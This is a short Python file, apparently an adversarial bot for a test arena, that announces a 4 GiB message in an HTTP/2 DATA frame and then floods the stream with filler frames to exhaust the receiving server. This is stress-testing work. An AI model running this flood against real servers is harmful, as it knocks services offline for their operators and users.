"""Says that its answer has 4 GiB and begins to send it."""

from rawhttp2 import DATA, RawBot, frame, message

from arenabot.v1 import player_pb2 as player


class HalfMessageFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.send(frame(DATA, message(b"", length=0xFFFF_FFFF), stream=self.stream))
        self.flood(frame(DATA, bytes(1024), stream=self.stream))


if __name__ == "__main__":
    HalfMessageFlood().serve()
